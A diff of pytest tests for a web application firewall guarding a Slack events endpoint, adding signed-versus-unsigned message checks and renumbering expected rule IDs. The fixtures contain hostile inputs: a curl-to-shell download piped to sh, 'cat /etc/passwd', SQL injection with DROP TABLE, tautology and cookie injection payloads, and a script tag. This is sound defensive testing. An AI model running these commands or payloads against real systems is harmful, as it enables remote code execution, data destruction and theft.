@@ -49,6 +49,42 @@ def test_signed_slack_request_reaches_jeeves(sec_stack: StackHandle, sec_client:
     assert "edge-check" in resp.text
 
 
+CODE_MESSAGE = ("can someone run `SELECT name, password FROM users WHERE id = '1' OR '1'='1'; DROP TABLE sessions;--`"
+                " and then `curl -s http://10.0.0.5/x.sh | sh; cat /etc/passwd` on the box? <script>alert(1)</script>")
+
+
+def slack_event(text: str, envelope_type: str = "event_callback") -> bytes:
+    return json.dumps({"token": "x", "team_id": "T061EG9R6", "type": envelope_type, "event_id": "Ev1",
+                       "event": {"type": "message", "user": "U1", "channel": "C1", "ts": "1.2", "text": text}}).encode()
+
+
+def test_signed_slack_message_full_of_sql_and_shell_passes_the_waf(sec_stack: StackHandle,
+                                                                     sec_client: httpx.Client) -> None:
+    body = slack_event(CODE_MESSAGE)
+    resp = sec_client.post("/slack/events", content=body,
+                           headers=slack_headers(sec_stack.secret("slack_signing_secret"), body))
+    assert resp.status_code != 403, resp.text
+    entry = log_entry(sec_stack, resp.headers["X-Request-Id"])
+    assert "waf=block" not in entry["decisions"] and entry["upstream"] != ""
+
+
+def test_the_same_slack_message_unsigned_or_elsewhere_is_blocked(sec_stack: StackHandle,
+                                                                   sec_client: httpx.Client) -> None:
+    body = slack_event(CODE_MESSAGE)
+    unsigned = sec_client.post("/slack/events", content=body, headers={"Content-Type": "application/json"})
+    assert unsigned.status_code == 403 and unsigned.json()["error"] == "request_blocked", unsigned.text
+    forged = sec_client.post("/slack/events", content=body,
+                             headers=slack_headers("not-the-secret", body))
+    assert forged.status_code == 403 and forged.json()["error"] == "request_blocked"
+    api = sec_client.post("/api/users", content=body, headers={"Content-Type": "application/json"})
+    assert api.status_code == 403 and api.json()["error"] == "request_blocked"
+    # signed, the envelope keeps every rule: an injection outside the message text is still blocked
+    envelope = slack_event("hello", envelope_type="event_callback' OR '1'='1")
+    signed = sec_client.post("/slack/events", content=envelope,
+                             headers=slack_headers(sec_stack.secret("slack_signing_secret"), envelope))
+    assert signed.status_code == 403 and signed.json()["error"] == "request_blocked", signed.text
+
+
 @pytest.mark.parametrize("case", ["unsigned", "wrong_secret", "stale", "future", "tampered_body", "bad_format"])
 def test_bad_slack_signature_is_401_at_the_edge(sec_stack: StackHandle, sec_client: httpx.Client,
                                                  case: str) -> None:
@@ -100,14 +136,14 @@ def test_detect_mode_logs_but_passes(sec_stack: StackHandle, sec_client: httpx.C
 def test_denied_cidr_is_blocked(sec_client: httpx.Client) -> None:
     resp = sec_client.get("/sec/ipdeny/x")
     assert resp.status_code == 403
-    assert resp.json()["rules"] == [910100]
+    assert resp.json()["rules"] == [110100]
 
 
 @pytest.mark.parametrize("ua", ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
                                 "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"])
 def test_scanner_user_agents_are_blocked(sec_client: httpx.Client, ua: str) -> None:
     resp = sec_client.get("/sec/waf/x", headers={"User-Agent": ua})
-    assert resp.status_code == 403 and 913100 in resp.json()["rules"]
+    assert resp.status_code == 403 and {113100, 913100} & set(resp.json()["rules"])   # ours, the CRS's
 
 
 @pytest.mark.parametrize("method", ["TRACE", "TRACK", "PROPFIND", "CONNECTX"])
@@ -120,7 +156,7 @@ def test_disallowed_methods_are_blocked(sec_client: httpx.Client, method: str) -
 
 def test_oversized_header_is_blocked(sec_client: httpx.Client) -> None:
     resp = sec_client.get("/sec/waf/x", headers={"X-Padding": "a" * 9000})
-    assert resp.status_code == 403 and 920380 in resp.json()["rules"]
+    assert resp.status_code == 403 and 120380 in resp.json()["rules"]
 
 
 def test_cookies_are_inspected_one_by_one(sec_client: httpx.Client) -> None:
@@ -129,7 +165,7 @@ def test_cookies_are_inspected_one_by_one(sec_client: httpx.Client) -> None:
     sqli = "%27%20insert%20into%20users%28login%2C%20password%29%20values%28%27a%27%2C%20%27b%27%29"
     blocked = sec_client.get("/sec/waf/x", headers={"Cookie": f"session=Zq81xVb0; q={sqli}"})
     assert blocked.status_code == 403
-    assert any(942000 <= rule < 943000 for rule in blocked.json()["rules"]), blocked.json()
+    assert any(rule // 1000 in (142, 942) for rule in blocked.json()["rules"]), blocked.json()
     plain = sec_client.get("/sec/waf/x", headers={"Cookie": "session=Zq81xVb0; theme=dark; q=O%27Neil%20%26%20sons"})
     assert plain.status_code != 403
     # the same injection in a second Cookie header line
@@ -139,7 +175,7 @@ def test_cookies_are_inspected_one_by_one(sec_client: httpx.Client) -> None:
 
 def test_template_expressions_are_seen_across_line_breaks_but_not_across_braces(sec_client: httpx.Client) -> None:
     blocked = sec_client.get("/sec/waf/x", params={"q": "{{\n\trequest.application\r\n}}"})
-    assert blocked.status_code == 403 and 934100 in blocked.json()["rules"]
+    assert blocked.status_code == 403 and 134100 in blocked.json()["rules"]
     # two plain placeholders with ordinary text (an apostrophe) between them: no expression inside either
     plain = sec_client.get("/sec/waf/x", params={"q": "Hi {{ name }},\nit's your turn: {{ date }}"})
     assert plain.status_code != 403
@@ -148,7 +184,7 @@ def test_template_expressions_are_seen_across_line_breaks_but_not_across_braces(
 @pytest.mark.parametrize("payload", ["') or ('a')=('a", '") OR ("b")=("b', "1) or (2)>(1", "x') AND ('y')!=('z"])
 def test_tautologies_with_parenthesised_operands_are_blocked(sec_client: httpx.Client, payload: str) -> None:
     resp = sec_client.get("/sec/waf/x", params={"q": payload})
-    assert resp.status_code == 403 and any(942000 <= r < 943000 for r in resp.json()["rules"]), payload
+    assert resp.status_code == 403 and any(r // 1000 in (142, 942) for r in resp.json()["rules"]), payload
 
 
 def test_requests_outside_every_route_pass_the_waf_before_their_404(sec_client: httpx.Client) -> None:
@@ -162,12 +198,12 @@ def test_requests_outside_every_route_pass_the_waf_before_their_404(sec_client: 
 def test_command_substitution_with_escaped_backticks_is_blocked(sec_client: httpx.Client, payload: str) -> None:
     # \` is a backtick once the string it sits in is unescaped (a shell or a template in between)
     resp = sec_client.get("/sec/waf/x", params={"q": payload})
-    assert resp.status_code == 403 and 932110 in resp.json()["rules"], payload
+    assert resp.status_code == 403 and 132110 in resp.json()["rules"], payload
 
 
 def test_foreign_host_is_blocked(sec_client: httpx.Client) -> None:
     resp = sec_client.get("/sec/waf/x", headers={"Host": "evil.example.com"})
-    assert resp.status_code == 403 and 920350 in resp.json()["rules"]
+    assert resp.status_code == 403 and 120350 in resp.json()["rules"]
 
 
 def raw_request(stack: StackHandle, payload: bytes) -> bytes:
@@ -184,7 +220,7 @@ def raw_request(stack: StackHandle, payload: bytes) -> bytes:
 def test_http10_without_host_is_blocked(sec_stack: StackHandle) -> None:
     data = raw_request(sec_stack, b"GET /sec/waf/x HTTP/1.0\r\n\r\n")
     assert data.startswith(b"HTTP/1.1 403")
-    assert b"920280" in data
+    assert b"120280" in data and b"920280" in data   # ours and the CRS's
 
 
 def test_conflicting_length_and_chunked_never_reach_upstream(sec_stack: StackHandle,
